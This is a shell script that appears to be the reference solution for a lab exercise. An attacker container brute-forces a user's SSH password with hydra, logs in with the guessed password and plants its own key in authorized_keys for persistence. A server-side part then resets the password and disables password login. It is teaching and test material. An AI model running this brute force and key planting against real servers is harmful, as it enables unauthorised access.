#!/bin/sh
# The solution: solve.sh [INSTANCE], from the folder of the lab. It does what a student would.
set -eu
lab=$(dirname "$0")/.. instance=${1:-default}

on() {
  labctl exec --instance "$instance" "$lab" "$@"
}

# 1: guess, log in with what was guessed, fetch the note
on attacker -- sh -ec '
  found=$(hydra -q -t 4 -f -l maria -P /root/words.txt ssh://10.44.0.10 | sed -n "s/.*password: //p")
  printf "#!/bin/sh\necho \"%s\"\n" "$found" >/tmp/askpass
  chmod 700 /tmp/askpass
  export SSH_ASKPASS=/tmp/askpass SSH_ASKPASS_REQUIRE=force
  options="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
  setsid ssh $options maria@10.44.0.10 cat note.txt >/root/note.txt
  # 3: a key, brought there while passwords are still taken
  [ -e /root/.ssh/id_ed25519 ] || ssh-keygen -q -t ed25519 -N "" -f /root/.ssh/id_ed25519
  setsid ssh $options maria@10.44.0.10 "umask 077; mkdir -p .ssh; cat >>.ssh/authorized_keys" </root/.ssh/id_ed25519.pub'

# 2 and 4
on server -- sh -ec '
  printf "maria:%s\n" "$(head -c 18 /dev/urandom | base64)" | chpasswd
  printf "PasswordAuthentication no\nKbdInteractiveAuthentication no\n" >/etc/ssh/sshd_config.d/00-lab.conf
  systemctl restart ssh'
